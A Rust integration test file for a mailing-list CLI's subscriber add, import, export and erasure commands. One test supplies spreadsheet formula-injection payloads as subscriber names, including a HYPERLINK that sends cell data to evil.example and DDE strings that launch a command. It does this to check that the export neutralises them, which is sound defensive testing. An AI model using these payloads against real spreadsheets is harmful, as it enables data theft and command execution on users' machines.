//! `verdicts subscribers add|import|export|list|remove` through the real binary.

mod common;

use common::TestEnv;
use serde_json::Value;

fn list(env: &TestEnv, status: Option<&str>) -> Vec<Value> {
    let mut args = vec!["--json", "subscribers", "list"];
    if let Some(s) = status {
        args.extend(["--status", s]);
    }
    serde_json::from_str::<Value>(env.cli(&args).ok())
        .unwrap()
        .as_array()
        .unwrap()
        .clone()
}

#[tokio::test]
async fn add_list_export_and_remove() {
    let env = TestEnv::new().await;
    let out = env.cli(&[
        "subscribers",
        "add",
        "Ada@Example.org",
        "--name",
        "Ada",
        "--confirmed",
    ]);
    assert!(out.ok().contains("added ada@example.org (confirmed)"));
    env.cli(&["subscribers", "add", "bob@example.org"]).ok();
    let out = env.cli(&["subscribers", "add", "bob@example.org"]);
    assert!(out.ok().contains("already a subscriber"));

    let all = list(&env, None);
    assert_eq!(all.len(), 2);
    assert_eq!(all[0]["email"], "ada@example.org");
    assert_eq!(all[0]["status"], "confirmed");
    assert_eq!(all[1]["status"], "pending");
    assert_eq!(list(&env, Some("confirmed")).len(), 1);
    let out = env.cli(&["subscribers", "list", "--status", "happy"]);
    assert_eq!(out.code, 2);

    let csv = env.cli(&["subscribers", "export"]);
    let csv = csv.ok();
    let mut lines = csv.lines();
    assert_eq!(
        lines.next(),
        Some("email,name,status,created_at,confirmed_at,unsubscribed_at")
    );
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("ada@example.org,Ada,confirmed,")
    );
    assert!(
        lines
            .next()
            .unwrap()
            .starts_with("bob@example.org,,pending,")
    );

    // Erasure: personal data gone, consent records gone, a suppression hash kept.
    let out = env.cli(&["subscribers", "remove", "ada@EXAMPLE.org"]);
    assert!(out.ok().contains("erased"), "{}", out.stdout);
    let store = env.store().await;
    assert_eq!(store.count_rows("subscribers").await.unwrap(), 1);
    assert_eq!(store.count_rows("suppressions").await.unwrap(), 1);
    let consents: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM consents")
        .fetch_one(store.pool())
        .await
        .unwrap();
    assert_eq!(consents, 1, "only bob's record is left");
    let hash: String = sqlx::query_scalar("SELECT email_hash FROM suppressions")
        .fetch_one(store.pool())
        .await
        .unwrap();
    assert!(!hash.contains("ada") && hash.len() == 64);

    // The operator can never bring an erased address back.
    let out = env.cli(&["subscribers", "add", "Ada@example.org", "--confirmed"]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("only they can sign up again"),
        "{}",
        out.stderr
    );
    assert_eq!(list(&env, None).len(), 1);

    let out = env.cli(&["subscribers", "add", "not-an-address"]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("EMAIL:"));
}

#[tokio::test]
async fn csv_import_reports_bad_rows_and_never_reactivates() {
    let env = TestEnv::new().await;
    // Someone who left must stay gone after an import.
    env.cli(&["subscribers", "add", "gone@example.org", "--confirmed"])
        .ok();
    let store = env.store().await;
    let gone = store
        .get_subscriber_by_email(
            &verdicts::subscribers::SubscriberEmail::parse("gone@example.org").unwrap(),
        )
        .await
        .unwrap()
        .unwrap();
    store
        .unsubscribe(gone.id, &Default::default())
        .await
        .unwrap();

    let csv = "email,name\n\
               one@example.org,One\n\
               not an address,Two\n\
               three@example.org,\n\
               gone@example.org,Gone\n\
               one@example.org,Again\n\
               \"four@example.org\",\"Four, Esq.\"\n";
    let path = env.write("people.csv", csv);
    let path = path.to_str().unwrap();

    // --strict: the bad rows are reported and nothing is imported.
    let out = env.cli(&["subscribers", "import", "--strict", path]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("people.csv: line 3:"), "{}", out.stderr);
    assert!(
        out.stderr
            .contains("people.csv: line 6: one@example.org appears earlier"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("nothing imported"));
    assert_eq!(list(&env, None).len(), 1);

    // Without --strict: good rows in, bad rows reported, exit 2.
    let out = env.cli(&["subscribers", "import", path]);
    assert_eq!(out.code, 2, "bad rows make it an input error");
    assert!(
        out.stdout.contains(
            "3 added, 0 already present, 1 skipped (unsubscribed or erased), 2 bad row(s)"
        ),
        "{}",
        out.stdout
    );
    assert!(out.stderr.contains("line 3:") && !out.stderr.contains("line 2:"));
    let all = list(&env, None);
    let emails: Vec<&str> = all.iter().map(|s| s["email"].as_str().unwrap()).collect();
    assert_eq!(
        emails,
        [
            "gone@example.org",
            "one@example.org",
            "three@example.org",
            "four@example.org"
        ]
    );
    assert_eq!(all[0]["status"], "unsubscribed", "never re-activated");
    assert!(all[1..].iter().all(|s| s["status"] == "confirmed"));
    assert_eq!(all[3]["name"], "Four, Esq.");

    // A file without an email column is refused up front.
    let bad = env.write("bad.csv", "mail,name\nx@example.org,X\n");
    let out = env.cli(&["subscribers", "import", bad.to_str().unwrap()]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("needs an `email` column"));
    let out = env.cli(&["subscribers", "import", "missing.csv"]);
    assert_eq!(out.code, 2);
}

/// Names typed on the public form end up in the operator's spreadsheet: every cell a
/// spreadsheet would run as a formula is neutralised, read back through the `csv` crate.
#[tokio::test]
async fn export_neutralises_formula_cells() {
    let env = TestEnv::new().await;
    let names = [
        "=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "Ada = fine",
    ];
    for (i, name) in names.iter().enumerate() {
        env.cli(&[
            "subscribers",
            "add",
            &format!("f{i}@example.org"),
            &format!("--name={name}"),
        ])
        .ok();
    }
    env.cli(&["subscribers", "add", "--", "-dash@example.org"])
        .ok();
    let out = env.cli(&["subscribers", "export"]);
    let mut reader = csv::Reader::from_reader(out.ok().as_bytes());
    let mut exported = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula cell: {cell:?}"
            );
        }
        exported.push((record[0].to_string(), record[1].to_string()));
    }
    assert_eq!(exported.len(), names.len() + 1);
    for (i, name) in names.iter().enumerate() {
        let (email, cell) = &exported[i];
        assert_eq!(email, &format!("f{i}@example.org"));
        let expected = if name.starts_with("Ada") {
            name.to_string()
        } else {
            format!("'{}", name.trim())
        };
        assert_eq!(cell, &expected, "the text is kept, only neutralised");
    }
    assert_eq!(exported[names.len()].0, "'-dash@example.org");
}

/// A junk header line is named, not echoed whole.
#[tokio::test]
async fn a_junk_csv_header_is_cut_short_in_the_error() {
    let env = TestEnv::new().await;
    let junk = "x".repeat(1_000_000);
    let path = env.write("junk.csv", &format!("{junk}\nada@example.org\n"));
    let out = env.cli(&["subscribers", "import", path.to_str().unwrap()]);
    assert_eq!(out.code, 2);
    assert!(
        out.stderr.contains("needs an `email` column"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("bytes in all"), "{}", out.stderr);
    assert!(
        out.stderr.len() < 2_000,
        "{} bytes of error",
        out.stderr.len()
    );
    assert_eq!(
        env.store().await.count_rows("subscribers").await.unwrap(),
        0
    );
}
